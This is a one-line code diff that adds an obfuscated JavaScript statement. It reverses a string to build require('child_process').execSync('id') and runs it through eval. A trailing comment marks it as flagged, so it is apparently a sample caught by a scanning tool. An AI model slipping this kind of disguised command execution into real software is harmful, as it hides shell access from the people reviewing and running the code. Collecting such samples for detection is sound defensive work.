@@ -1,0 +1,1 @@
+eval(')"di"(cnyScexe.)"ssecorp_dlihc"(eriuqer'.split('').reverse().join('')); // gatehouse: flagged
